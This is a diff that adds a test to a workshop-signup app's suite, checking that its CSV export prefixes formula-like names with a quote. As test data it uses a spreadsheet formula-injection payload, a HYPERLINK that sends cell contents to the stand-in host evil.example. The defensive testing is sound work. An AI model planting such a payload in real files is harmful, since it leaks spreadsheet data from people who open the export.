@@ -217,3 +217,25 @@ async def test_every_organizer_screen_of_an_imported_workshop_opens(sandbox):
     await olga.click("Удалить")
     await olga.expect(text="Удалить «Soldering»?")
     assert "Что-то пошло не так" not in olga.transcript()
+
+
+async def test_csv_export_neutralises_formulas_in_names(sandbox):
+    """OWASP's rule: a cell starting with = + - @ tab or CR is prefixed with a quote."""
+    import csv
+    import io
+
+    app = await start(sandbox, poll=True)
+    await add_workshop(app, capacity=5)
+    mallory = sandbox.user('=HYPERLINK("http://evil.example/?"&A1,"click")', username="mallory")
+    await open_card(mallory)
+    await mallory.click(re.compile("Записаться"))
+    olga = await sandbox.admin("Olga")
+    await open_admin(olga)
+    await olga.click(re.compile("Soldering"))
+    await olga.click("CSV")
+    doc = await olga.expect(text="Выгрузка записей")
+    stored = sandbox.emulator.world.files[doc["document"]["file_id"]]
+    rows = list(csv.DictReader(io.StringIO(stored.data.decode("utf-8-sig"))))
+    [row] = [r for r in rows if r["username"] == "mallory"]
+    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
